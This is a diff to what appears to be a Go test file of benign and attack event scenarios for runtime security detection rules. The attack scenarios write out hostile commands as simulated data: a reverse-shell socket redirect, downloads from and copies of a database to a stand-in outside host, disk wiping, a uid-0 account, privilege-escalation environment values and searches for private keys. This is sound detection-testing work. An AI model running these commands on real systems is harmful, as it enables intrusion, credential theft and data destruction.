@@ -44,7 +44,7 @@ var hostAddr = addr("192.168.10.5:41022")
 func All() []Scenario {
 	return []Scenario{
 		{
-			Name: "password_store_read", Rule: "Password Store Read by Unexpected Program", Count: 1,
+			Name: "password_store_read", Rule: "Password Store Read by Unexpected Program", Count: 2,
 			Benign: func(b *Builder) {
 				b.Open(TIDSshd, "/etc/shadow", ORdonly|OCloexec)
 				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
@@ -61,6 +61,9 @@ func All() []Scenario {
 				cat := b.Spawn(TIDRootBash, "/usr/bin/cat", []string{"/etc/shadow"})
 				b.Open(cat, "/etc/shadow", ORdonly)
 				b.Exit(cat)
+				py := b.Spawn(TIDRootBash, "/usr/bin/python3", []string{"probe.py"})
+				b.Open(py, "/etc/../etc/../etc/pam.d/common-auth", ORdonly) // traversal paths are resolved
+				b.Exit(py)
 			},
 		},
 		{
@@ -252,20 +255,21 @@ func All() []Scenario {
 		{
 			Name: "netcat_outbound", Rule: "Netcat-like Tool Connected Out", Count: 2,
 			Benign: func(b *Builder) {
-				nc := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"-z", "127.0.0.1", "22"})
-				b.Connect(nc, addr("127.0.0.1:40100"), addr("127.0.0.1:22"), 0)
-				b.Exit(nc)
-				failed := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"198.51.100.23", "9001"})
-				b.Connect(failed, hostAddr, addr("198.51.100.23:9001"), -111) // ECONNREFUSED
-				b.Exit(failed)
+				// The socat port forwarder of the base state relays a client to the local sshd.
+				fwd := b.Fork(TIDSocat)
+				b.Connect(fwd, addr("127.0.0.1:40100"), addr("127.0.0.1:22"), 0)
+				b.Exit(fwd)
+				refused := b.Fork(TIDSocat)
+				b.Connect(refused, hostAddr, addr("198.51.100.23:9001"), -111) // ECONNREFUSED
+				b.Exit(refused)
 			},
 			Attack: func(b *Builder) {
-				nc := b.Spawn(TIDAliceBash, "/usr/bin/nc", []string{"198.51.100.23", "9001"})
-				b.Connect(nc, hostAddr, addr("198.51.100.23:9001"), 0)
-				b.Exit(nc)
-				socat := b.Spawn(TIDAliceBash, "/usr/bin/socat", []string{"-", "TCP:[2001:db8::5]:443"})
-				b.Connect(socat, addr("[2001:db8::10]:51000"), addr("[2001:db8::5]:443"), -115) // EINPROGRESS
-				b.Exit(socat)
+				out := b.Fork(TIDSocat)
+				b.Connect(out, hostAddr, addr("198.51.100.23:9001"), 0)
+				b.Exit(out)
+				out6 := b.Fork(TIDSocat)
+				b.Connect(out6, addr("[2001:db8::10]:51000"), addr("[2001:db8::5]:443"), -115) // EINPROGRESS
+				b.Exit(out6)
 			},
 		},
 		{
@@ -306,9 +310,253 @@ func All() []Scenario {
 				b.ConnectUnix(TIDAppInCtr, "/tmp/app.sock")
 			},
 			Attack: func(b *Builder) {
-				curl := b.Spawn(TIDAppInCtr, "/usr/bin/curl", []string{"--unix-socket", "/var/run/docker.sock", "http://x/containers/json"})
-				b.ConnectUnix(curl, "/var/run/docker.sock")
+				docker := b.Spawn(TIDAppInCtr, "/usr/local/bin/docker", []string{"-H", "unix:///var/run/docker.sock", "ps"})
+				b.ConnectUnix(docker, "/var/run/docker.sock")
+				b.Exit(docker)
+			},
+		},
+		{
+			Name: "traversal_read", Rule: "System File Reached Through Path Traversal", Count: 1,
+			Benign: func(b *Builder) {
+				b.Open(TIDNginx, "/etc/nginx/../nginx/nginx.conf", ORdonly) // one climb, back into /etc/nginx
+				b.Chdir(TIDAliceBash, "/home/alice/src/app")
+				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"../../notes.txt"})
+				b.Open(cat, "../../notes.txt", ORdonly)
+				b.Exit(cat)
+				b.Chdir(TIDAliceBash, "/home/alice")
+			},
+			Attack: func(b *Builder) {
+				b.Chdir(TIDNginx, "/var/www/html")
+				b.Open(TIDNginx, "../../../etc/hosts", ORdonly)
+				b.Chdir(TIDNginx, "/")
+			},
+		},
+		{
+			Name: "secret_search", Rule: "Search for Private Keys or Cloud Credentials", Count: 3,
+			Benign: func(b *Builder) {
+				f := b.Spawn(TIDAliceBash, "/usr/bin/find", []string{".", "-name", "*.go"})
+				b.Exit(f)
+				g := b.Spawn(TIDAliceBash, "/usr/bin/grep", []string{"-r", "TODO", "src"})
+				b.Exit(g)
+				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh-keygen", []string{"-f", ".ssh/id_rsa", "-y"})
+				b.Exit(ssh)
+			},
+			Attack: func(b *Builder) {
+				f := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/", "-name", "id_rsa"})
+				b.Exit(f)
+				g := b.Spawn(TIDNginx, "/usr/bin/grep", []string{"-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"})
+				b.Exit(g)
+				a := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/", "-path", "*.aws/credentials"})
+				b.Exit(a)
+			},
+		},
+		{
+			Name: "database_child", Rule: "Program Started by Database Server", Count: 2,
+			Benign: func(b *Builder) {
+				safe := b.Spawn(TIDInit, "/usr/bin/mysqld_safe", nil, AsUser(0), NoTTY())
+				db := b.Spawn(safe, "/usr/sbin/mysqld", []string{"--basedir=/usr"}, AsUser(106))
+				worker := b.Fork(db)
+				b.Exit(worker)
+				b.Exit(safe)
+			},
+			Attack: func(b *Builder) {
+				db := b.Spawn(TIDInit, "/usr/lib/postgresql/15/bin/postgres", []string{"-D", "/var/lib/postgresql/15/main"}, AsUser(105), NoTTY())
+				sh := b.Spawn(db, "/bin/sh", []string{"-c", "id"})
+				b.Exit(sh)
+				my := b.Spawn(TIDInit, "/usr/sbin/mysqld", nil, AsUser(106), NoTTY())
+				ls := b.Spawn(my, "/usr/bin/ls", []string{"/"})
+				b.Exit(ls)
+			},
+		},
+		{
+			Name: "cryptominer", Rule: "Cryptocurrency Miner Started", Count: 2,
+			Benign: func(b *Builder) {
+				top := b.Spawn(TIDAliceBash, "/usr/bin/top", nil)
+				b.Exit(top)
+				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/stratum-protocol.html"})
 				b.Exit(curl)
+			},
+			Attack: func(b *Builder) {
+				x := b.Spawn(TIDNginx, "/var/www/.cache/xmrig", []string{"--donate-level", "1"})
+				b.Exit(x)
+				k := b.Spawn(TIDAppInCtr, "/app/kthreadd", []string{"-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"})
+				b.Exit(k)
+			},
+		},
+		{
+			Name: "data_destruction", Rule: "Data Destruction Tool Run", Count: 2,
+			Benign: func(b *Builder) {
+				lr := b.Spawn(TIDCrond, "/usr/sbin/logrotate", []string{"/etc/logrotate.conf"})
+				sh := b.Spawn(lr, "/usr/bin/shred", []string{"-u", "/var/log/secure.4"})
+				b.Exit(sh)
+				b.Exit(lr)
+				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{"-rf", "build"})
+				b.Exit(rm)
+			},
+			Attack: func(b *Builder) {
+				sh := b.Spawn(TIDRootBash, "/usr/bin/shred", []string{"-n", "3", "-zu", "/var/lib/mysql/ibdata1"})
+				b.Exit(sh)
+				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{"-rf", "--no-preserve-root", "/"})
+				b.Exit(rm)
+			},
+		},
+		{
+			Name: "dev_shm_exec", Rule: "Program Executed from Shared Memory", Count: 2,
+			Benign: func(b *Builder) {
+				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", []string{"/dev/shm"})
+				b.Exit(ls)
+			},
+			Attack: func(b *Builder) {
+				x := b.Spawn(TIDNginx, "/dev/shm/.x/kswapd", nil)
+				b.Exit(x)
+				sh := b.Spawn(TIDAliceBash, "/bin/sh", []string{"/dev/shm/run.sh"})
+				b.Exit(sh)
+			},
+		},
+		{
+			Name: "glibc_tunables_setuid", Rule: "Glibc Tunables Passed to Setuid Program", Count: 2,
+			Benign: func(b *Builder) {
+				su := b.Spawn(TIDAliceBash, "/usr/bin/su", []string{"-"}, AsUser(0))
+				b.Exit(su)
+			},
+			Attack: func(b *Builder) {
+				su := b.Spawn(TIDAliceBash, "/usr/bin/su", []string{"--help"}, AsUser(0),
+					Env("GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=A"))
+				b.Exit(su)
+				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", nil, Env("GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"))
+				b.Exit(ls)
+			},
+		},
+		{
+			Name: "pkexec_empty_argv", Rule: "Pkexec Started Without Arguments", Count: 1,
+			Benign: func(b *Builder) {
+				pk := b.Spawn(TIDAliceBash, "/usr/bin/pkexec", []string{"/usr/sbin/reboot"}, AsUser(0))
+				b.Exit(pk)
+			},
+			Attack: func(b *Builder) {
+				pk := b.Spawn(TIDAliceBash, "/usr/bin/pkexec", nil, AsUser(0), Argv0(""), Env("PATH=GCONV_PATH=.", "CHARSET=PWNKIT"))
+				b.Exit(pk)
+			},
+		},
+		{
+			Name: "userfaultfd", Rule: "Unprivileged Userfaultfd Created", Count: 2,
+			Benign: func(b *Builder) {
+				criu := b.Spawn(TIDRootBash, "/usr/sbin/criu", []string{"restore", "--lazy-pages"})
+				b.Call(criu, event.SyscallUserfaultfdX, map[string]any{"res": 5, "flags": 0})
+				b.Exit(criu)
+			},
+			Attack: func(b *Builder) {
+				x := b.Spawn(TIDAliceBash, "/home/alice/exp", nil)
+				b.Call(x, event.SyscallUserfaultfdX, map[string]any{"res": 3, "flags": 0})
+				b.Call(x, event.SyscallUserfaultfdX, map[string]any{"res": -1, "flags": 0}) // EPERM still counts
+				b.Exit(x)
+			},
+		},
+		{
+			Name: "release_agent", Rule: "Cgroup Release Agent Written", Count: 1,
+			Benign: func(b *Builder) {
+				b.Open(TIDInit, "/sys/fs/cgroup/systemd/release_agent", OWronly)
+				cat := b.Spawn(TIDRootBash, "/usr/bin/cat", []string{"/sys/fs/cgroup/memory/release_agent"})
+				b.Open(cat, "/sys/fs/cgroup/memory/release_agent", ORdonly)
+				b.Exit(cat)
+			},
+			Attack: func(b *Builder) {
+				sh := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "echo /cmd > /tmp/cgrp/release_agent"}, AsUser(0))
+				b.Open(sh, "/tmp/cgrp/release_agent", OWronly|OCreat|OTrunc)
+				b.Exit(sh)
+			},
+		},
+		{
+			Name: "system_account_interactive", Rule: "Interactive Session of System Account", Count: 2,
+			Benign: func(b *Builder) {
+				sh := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/var/cache/nginx", "-mmin", "+60"})
+				b.Exit(sh)
+				bash := b.Spawn(TIDAliceBash, "/bin/bash", nil) // alice (uid 1000) on her terminal
+				b.Exit(bash)
+				login := b.Spawn(TIDInit, "/bin/login", []string{"-p", "--"}, AsUser(0), OnTTY(TTYOther))
+				b.Exit(login)
+			},
+			Attack: func(b *Builder) {
+				sh := b.Spawn(TIDRootBash, "/bin/bash", []string{"-i"}, AsUser(33))
+				b.Exit(sh)
+				login := b.Spawn(TIDNginx, "/bin/login", nil)
+				b.Exit(login)
+			},
+		},
+		{
+			Name: "account_management", Rule: "Account Management Program Run", Count: 2,
+			Benign: func(b *Builder) {
+				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
+				b.Exit(pw)
+				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"install", "postgresql"})
+				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--configure", "-a"})
+				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/postgresql-common.postinst", "configure"})
+				add := b.Spawn(post, "/usr/sbin/adduser", []string{"--system", "postgres"})
+				b.Exit(add)
+				b.Exit(post)
+				b.Exit(dpkg)
+				b.Exit(apt)
+				st := b.Spawn(TIDRootBash, "/usr/bin/passwd", []string{"-S", "alice"})
+				b.Exit(st)
+			},
+			Attack: func(b *Builder) {
+				ua := b.Spawn(TIDRootBash, "/usr/sbin/useradd", []string{"-o", "-u", "0", "-g", "0", "sysadm"})
+				b.Exit(ua)
+				cp := b.Spawn(TIDRootBash, "/usr/sbin/chpasswd", nil)
+				b.Exit(cp)
+			},
+		},
+		{
+			Name: "dev_file_created", Rule: "File Created Below /dev", Count: 2,
+			Benign: func(b *Builder) {
+				b.Open(TIDAliceBash, "/dev/null", OWronly|OCreat|OTrunc) // > /dev/null
+				b.Open(TIDAliceBash, "/dev/shm/sem.build", ORdwr|OCreat|FCreated)
+				b.Open(TIDUdevd, "/dev/.udev-probe", OWronly|OCreat|FCreated)
+			},
+			Attack: func(b *Builder) {
+				b.Open(TIDRootBash, "/dev/.lib", OWronly|OCreat|OTrunc|FCreated)
+				cp := b.Spawn(TIDRootBash, "/usr/bin/cp", []string{"/tmp/x", "/dev/input/mice.d"})
+				b.Open(cp, "/dev/input/mice.d", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(cp)
+			},
+		},
+		{
+			Name: "stdio_socket", Rule: "Standard Stream Redirected to Network Socket", Count: 3,
+			Benign: func(b *Builder) {
+				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"client.py"})
+				fd := b.Connect(py, hostAddr, addr("93.184.216.34:443"), 0)
+				b.Call(py, event.SyscallDup2X, map[string]any{"res": 10, "oldfd": fd, "newfd": 10})
+				b.Exit(py)
+				log := b.Spawn(TIDAliceBash, "/usr/bin/make", nil)
+				lf := b.Open(log, "/home/alice/build.log", OWronly|OCreat|OTrunc|FCreated)
+				b.Call(log, event.SyscallDup2X, map[string]any{"res": 1, "oldfd": lf, "newfd": 1})
+				b.Exit(log)
+				sshd := b.Fork(TIDSshd)
+				sfd := b.Connect(sshd, addr("192.168.10.5:22"), addr("192.168.10.77:51234"), 0)
+				b.Call(sshd, event.SyscallDup2X, map[string]any{"res": 0, "oldfd": sfd, "newfd": 0}) // re-exec hands over the client
+				b.Exit(sshd)
+			},
+			Attack: func(b *Builder) {
+				py := b.Spawn(TIDNginx, "/usr/bin/python3", []string{"-c", "import socket,os,pty;..."})
+				fd := b.Connect(py, hostAddr, addr("203.0.113.7:9001"), 0)
+				for n := range int64(3) {
+					b.Call(py, event.SyscallDup2X, map[string]any{"res": n, "oldfd": fd, "newfd": n})
+				}
+				b.Exit(py)
+			},
+		},
+		{
+			Name: "packet_socket", Rule: "Packet Socket Created in Container", Count: 1,
+			Benign: func(b *Builder) {
+				b.Call(TIDAppInCtr, event.SocketSocketX, map[string]any{"fd": 7, "domain": 2, "type": 2, "proto": 0})
+				dh := b.Spawn(TIDInit, "/usr/sbin/dhclient", []string{"eth0"})
+				b.Call(dh, event.SocketSocketX, map[string]any{"fd": 5, "domain": 17, "type": 3, "proto": 768})
+				b.Exit(dh)
+			},
+			Attack: func(b *Builder) {
+				sp := b.Spawn(TIDAppInCtr, "/usr/local/bin/arpspoof", []string{"-i", "eth0", "172.17.0.1"})
+				b.Call(sp, event.SocketSocketX, map[string]any{"fd": 3, "domain": 17, "type": 3, "proto": 1544})
+				b.Exit(sp)
 			},
 		},
 		{
@@ -348,7 +596,7 @@ func All() []Scenario {
 				b.Exit(test)
 			},
 			Attack: func(b *Builder) {
-				x := b.Spawn(TIDNginx, "/dev/shm/kworker", nil)
+				x := b.Spawn(TIDNginx, "/var/tmp/kworker", nil)
 				b.Exit(x)
 			},
 		},
@@ -367,9 +615,9 @@ func All() []Scenario {
 		{
 			Name: "scheduler_file", Rule: "Scheduled Task or Service File Written", Count: 1,
 			Benign: func(b *Builder) {
-				ct := b.Spawn(TIDAliceBash, "/usr/bin/crontab", []string{"-e"})
-				b.Open(ct, "/var/spool/cron/crontabs/alice", OWronly|OCreat|OTrunc)
-				b.Exit(ct)
+				sc := b.Spawn(TIDRootBash, "/usr/bin/systemctl", []string{"edit", "nginx"})
+				b.Open(sc, "/etc/systemd/system/nginx.service.d/override.conf", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(sc)
 				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/crontab"})
 				b.Open(cat, "/etc/crontab", ORdonly)
 				b.Exit(cat)
@@ -378,6 +626,233 @@ func All() []Scenario {
 				tee := b.Spawn(TIDRootBash, "/usr/bin/tee", []string{"/etc/cron.d/updater"})
 				b.Open(tee, "/etc/cron.d/updater", OWronly|OCreat|OTrunc|FCreated)
 				b.Exit(tee)
+			},
+		},
+		{
+			Name: "shell_config", Rule: "Shell Configuration File Modified", Count: 2,
+			Benign: func(b *Builder) {
+				b.Open(TIDAliceBash, "/home/alice/.bashrc", ORdonly)
+				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "bash.deb"})
+				b.Open(dpkg, "/etc/bash.bashrc.dpkg-new", OWronly|OCreat|FCreated)
+				b.Open(dpkg, "/etc/skel/.bashrc", OWronly|OCreat|OTrunc)
+				b.Exit(dpkg)
+			},
+			Attack: func(b *Builder) {
+				b.Open(TIDAliceBash, "/home/alice/.bashrc", OWronly|OAppend) // echo ... >> ~/.bashrc
+				tee := b.Spawn(TIDRootBash, "/usr/bin/tee", []string{"/etc/profile.d/motd.sh"})
+				b.Open(tee, "/etc/profile.d/motd.sh", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(tee)
+			},
+		},
+		{
+			Name: "job_scheduler", Rule: "Job Scheduler Command Run", Count: 2,
+			Benign: func(b *Builder) {
+				run := b.Spawn(TIDCrond, "/bin/sh", []string{"-c", "run-parts /etc/cron.daily"})
+				b.Exit(run)
+			},
+			Attack: func(b *Builder) {
+				ct := b.Spawn(TIDNginx, "/usr/bin/crontab", []string{"-l"})
+				b.Exit(ct)
+				ed := b.Spawn(TIDAliceBash, "/usr/bin/crontab", []string{"-e"})
+				b.Open(ed, "/var/spool/cron/crontabs/alice", OWronly|OCreat|OTrunc)
+				b.Exit(ed)
+			},
+		},
+		{
+			Name: "etc_write", Rule: "File Below /etc Written by Unexpected Program", Count: 2,
+			Benign: func(b *Builder) {
+				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"install", "nginx"})
+				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--configure", "-a"})
+				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/nginx-common.postinst", "configure"})
+				b.Open(post, "/etc/nginx/conf.d/default.conf", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(post)
+				b.Exit(dpkg)
+				b.Exit(apt)
+				ld := b.Spawn(TIDRootBash, "/sbin/ldconfig", nil)
+				b.Open(ld, "/etc/ld.so.cache~", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(ld)
+				b.Open(TIDAliceBash, "/etc/hosts", ORdonly)
+			},
+			Attack: func(b *Builder) {
+				b.Open(TIDRootBash, "/etc/ld.so.preload", OWronly|OCreat|OTrunc|FCreated)
+				py := b.Spawn(TIDNginx, "/usr/bin/python3", []string{"-c", "open('/etc/resolv.conf','w')"})
+				b.Open(py, "/etc/resolv.conf", OWronly|OCreat|OTrunc)
+				b.Exit(py)
+			},
+		},
+		{
+			Name: "root_write", Rule: "File Directly in /root Written", Count: 1,
+			Benign: func(b *Builder) {
+				b.Open(TIDRootBash, "/root/.bash_history", OWronly|OAppend)
+				b.Open(TIDRootBash, "/root/.cache/go-build/00/abc-d", OWronly|OCreat|FCreated)
+				b.Open(TIDRootBash, "/root/notes.txt", ORdonly)
+			},
+			Attack: func(b *Builder) {
+				wget := b.Spawn(TIDRootBash, "/usr/bin/wget", []string{"http://203.0.113.7/x"})
+				b.Open(wget, "/root/x", OWronly|OCreat|OTrunc|FCreated)
+				b.Exit(wget)
+			},
+		},
+		{
+			Name: "hidden_system_file", Rule: "Hidden File Created in System Directory", Count: 3,
+			Benign: func(b *Builder) {
+				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
+				b.Open(pw, "/etc/.pwd.lock", OWronly|OCreat|FCreated)
+				b.Exit(pw)
+				vim := b.Spawn(TIDRootBash, "/usr/bin/vim", []string{"/etc/hosts"})
+				b.Open(vim, "/etc/.hosts.swp", ORdwr|OCreat|FCreated)
+				b.Exit(vim)
+				b.Call(TIDAliceBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/home/alice/.config", "mode": 0o755})
+				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/share/doc/pkg/.hidden", "mode": 0o755})
+			},
+			Attack: func(b *Builder) {
+				b.Open(TIDRootBash, "/etc/.ssh-agent.sock", OWronly|OCreat|FCreated)
+				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/lib/.x", "mode": 0o755})
+				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/bin/.cache", "mode": 0o755})
+			},
+		},
+		{
+			Name: "ssh_directory_read", Rule: "SSH Directory Read by Unexpected Program", Count: 2,
+			Benign: func(b *Builder) {
+				b.Open(TIDSshd, "/root/.ssh/authorized_keys", ORdonly)
+				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh", []string{"host"})
+				b.Open(ssh, "/home/alice/.ssh/known_hosts", ORdonly)
+				b.Exit(ssh)
+			},
+			Attack: func(b *Builder) {
+				ls := b.Spawn(TIDNginx, "/usr/bin/ls", []string{"-a", "/root/.ssh"})
+				b.Open(ls, "/root/.ssh", ORdonly|1<<11) // O_DIRECTORY
+				b.Exit(ls)
+				cat := b.Spawn(TIDNginx, "/usr/bin/cat", []string{"/home/alice/.ssh/known_hosts"})
+				b.Open(cat, "/home/alice/.ssh/known_hosts", ORdonly)
+				b.Exit(cat)
+			},
+		},
+		{
+			Name: "network_tool", Rule: "Network Scanner or Relay Tool Started", Count: 2,
+			Benign: func(b *Builder) {
+				ss := b.Spawn(TIDAliceBash, "/usr/bin/ss", []string{"-tln"})
+				b.Exit(ss)
+				dig := b.Spawn(TIDAliceBash, "/usr/bin/dig", []string{"example.org"})
+				b.Exit(dig)
+			},
+			Attack: func(b *Builder) {
+				nmap := b.Spawn(TIDNginx, "/usr/bin/nmap", []string{"-sS", "10.0.0.0/24"})
+				b.Exit(nmap)
+				nc := b.Spawn(TIDAppInCtr, "/usr/bin/nc", []string{"-lvp", "4444"})
+				b.Exit(nc)
+			},
+		},
+		{
+			Name: "mining_pool_port", Rule: "Connection to Mining Pool Port", Count: 2,
+			Benign: func(b *Builder) {
+				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"http://127.0.0.1:3333/"})
+				b.Connect(curl, addr("127.0.0.1:40500"), addr("127.0.0.1:3333"), 0)
+				b.Exit(curl)
+				b.Connect(TIDAppInCtr, addr("172.17.0.2:40600"), addr("172.17.0.3:5432"), 0)
+			},
+			Attack: func(b *Builder) {
+				b.Connect(TIDAppInCtr, addr("172.17.0.2:40700"), addr("198.51.100.40:14444"), 0)
+				b.Connect(TIDAppInCtr, addr("172.17.0.2:40701"), addr("198.51.100.41:3333"), -115) // EINPROGRESS
+			},
+		},
+		{
+			Name: "http_proxy_env", Rule: "Download Tool Run with Unlisted HTTP Proxy", Count: 2,
+			Benign: func(b *Builder) {
+				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/"})
+				b.Exit(curl)
+				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"fetch.py"}, Env("HTTPS_PROXY=http://10.0.0.8:3128"))
+				b.Exit(py)
+			},
+			Attack: func(b *Builder) {
+				curl := b.Spawn(TIDNginx, "/usr/bin/curl", []string{"http://example.org/"}, Env("HTTP_PROXY=http://203.0.113.7:8080"))
+				b.Exit(curl)
+				wget := b.Spawn(TIDAliceBash, "/usr/bin/wget", []string{"https://example.org/"}, Env("https_proxy=http://203.0.113.7:3128"))
+				b.Exit(wget)
+			},
+		},
+		{
+			Name: "glibc_tunables", Rule: "Glibc Tunables Set for Program", Count: 1,
+			Benign: func(b *Builder) {
+				java := b.Spawn(TIDAppInCtr, "/usr/bin/java", []string{"-jar", "app.jar"}, Env("MALLOC_ARENA_MAX=2"))
+				b.Exit(java)
+			},
+			Attack: func(b *Builder) {
+				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", nil, Env("GLIBC_TUNABLES=glibc.malloc.tcache_count=0"))
+				b.Exit(ls)
+			},
+		},
+		{
+			Name: "setuid_root_attempt", Rule: "Non-root Process Tried to Become Root", Count: 1,
+			Benign: func(b *Builder) {
+				b.Call(TIDNginx, event.SyscallSetuidX, map[string]any{"res": 0, "uid": 33}) // dropping to itself
+				sudo := b.Spawn(TIDAliceBash, "/usr/bin/sudo", []string{"-i"}, AsUser(0))
+				b.Call(sudo, event.SyscallSetuidX, map[string]any{"res": 0, "uid": 0})
+				b.Exit(sudo)
+			},
+			Attack: func(b *Builder) {
+				x := b.Spawn(TIDNginx, "/var/www/html/uploads/getroot", nil)
+				b.Call(x, event.SyscallSetuidX, map[string]any{"res": -1, "uid": 0}) // EPERM
+				b.Exit(x)
+			},
+		},
+		{
+			Name: "bpf_load", Rule: "BPF Program Loaded", Count: 1,
+			Benign: func(b *Builder) {
+				b.Call(TIDInit, event.SyscallBpfV2X, map[string]any{"fd": 42, "cmd": 5}) // cgroup device filter
+				tool := b.Spawn(TIDRootBash, "/usr/sbin/bpftool", []string{"prog", "show"})
+				b.Call(tool, event.SyscallBpfV2X, map[string]any{"fd": 3, "cmd": 11}) // BPF_PROG_GET_NEXT_ID
+				b.Exit(tool)
+				fail := b.Spawn(TIDAliceBash, "/home/alice/loader", nil)
+				b.Call(fail, event.SyscallBpfV2X, map[string]any{"fd": -1, "cmd": 5}) // EPERM: nothing loaded
+				b.Exit(fail)
+			},
+			Attack: func(b *Builder) {
+				x := b.Spawn(TIDRootBash, "/root/.local/bin/kit", nil)
+				b.Call(x, event.SyscallBpfV2X, map[string]any{"fd": 4, "cmd": 0}) // BPF_MAP_CREATE
+				b.Call(x, event.SyscallBpfV2X, map[string]any{"fd": 5, "cmd": 5}) // BPF_PROG_LOAD
+				b.Exit(x)
+			},
+		},
+		{
+			Name: "container_package_manager", Rule: "Package Manager Run in Container", Count: 1,
+			Benign: func(b *Builder) {
+				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"update"})
+				b.Exit(apt)
+			},
+			Attack: func(b *Builder) {
+				apt := b.Spawn(TIDAppInCtr, "/usr/bin/apt-get", []string{"install", "-y", "nmap"})
+				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--unpack", "nmap.deb"})
+				b.Exit(dpkg)
+				b.Exit(apt)
+			},
+		},
+		{
+			Name: "container_remote_copy", Rule: "Remote File Copy Tool Run in Container", Count: 2,
+			Benign: func(b *Builder) {
+				wget := b.Spawn(TIDRootBash, "/usr/bin/wget", []string{"https://example.org/a.tar.gz"})
+				b.Exit(wget)
+			},
+			Attack: func(b *Builder) {
+				curl := b.Spawn(TIDAppInCtr, "/usr/bin/curl", []string{"-o", "/tmp/x", "http://203.0.113.7/x"})
+				b.Exit(curl)
+				scp := b.Spawn(TIDAppInCtr, "/usr/bin/scp", []string{"/app/db.sqlite", "u@203.0.113.7:"})
+				b.Exit(scp)
+			},
+		},
+		{
+			Name: "container_base64", Rule: "Base64 Decoding in Container", Count: 1,
+			Benign: func(b *Builder) {
+				enc := b.Spawn(TIDAppInCtr, "/usr/bin/base64", []string{"/app/logo.png"})
+				b.Exit(enc)
+				dec := b.Spawn(TIDAliceBash, "/usr/bin/base64", []string{"-d", "cert.b64"})
+				b.Exit(dec)
+			},
+			Attack: func(b *Builder) {
+				sh := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "echo Y3VybCBodHRwOi8v | base64 -d | sh"})
+				dec := b.Spawn(sh, "/usr/bin/base64", []string{"-d"})
+				b.Exit(dec)
+				b.Exit(sh)
 			},
 		},
 	}
